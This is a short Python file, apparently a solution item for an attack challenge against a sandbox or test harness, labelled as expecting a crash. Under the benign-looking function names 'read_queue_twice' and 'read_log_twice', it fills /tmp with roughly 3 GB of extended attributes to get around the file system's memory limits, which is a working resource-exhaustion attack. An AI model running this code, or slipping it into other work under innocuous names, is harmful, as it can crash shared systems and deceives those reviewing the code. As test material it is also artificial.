# /// attack
# outcomes = ["crashed"]
# says = "PermissionError"
# solution = true
# ///
"""Keeps gigabytes in extended attributes, which no size of a file system in memory bounds."""

import os


def read_queue_twice(queue_name, messages):
    for number in range(100):
        path = f"/tmp/x{number}"
        os.close(os.open(path, os.O_CREAT | os.O_RDWR))
        for attribute in range(500):
            os.setxattr(path, f"user.b{attribute}", b"x" * 65536)


def read_log_twice(stream_name, messages):
    return read_queue_twice(stream_name, messages)
